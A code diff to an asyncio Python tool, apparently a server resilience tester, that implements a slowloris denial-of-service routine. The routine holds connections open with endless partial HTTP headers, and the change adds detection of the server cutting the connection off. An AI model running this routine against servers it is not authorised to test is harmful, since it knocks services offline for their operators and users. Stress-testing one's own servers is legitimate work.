@@ -85,12 +85,17 @@ async def half_open(host, port, deadline, stats, held):
 async def slowloris(host, port, deadline, stats):
     async def one():
         try:
-            _, w = await open_raw(host, port, handshake=False)
+            r, w = await open_raw(host, port, handshake=False)
             w.write(b"GET / HTTP/1.1\r\n")
             while time.monotonic() < deadline:
                 w.write(b"X-a: b\r\n")
                 await w.drain()
-                await asyncio.sleep(0.5)
+                try:
+                    await asyncio.wait_for(r.read(1024), 0.5)
+                except asyncio.TimeoutError:
+                    continue
+                stats["slowloris_cut_off"] += 1  # an answer (408) or EOF: the server ended it
+                break
             w.close()
         except OSError:
             stats["slowloris_cut_off"] += 1
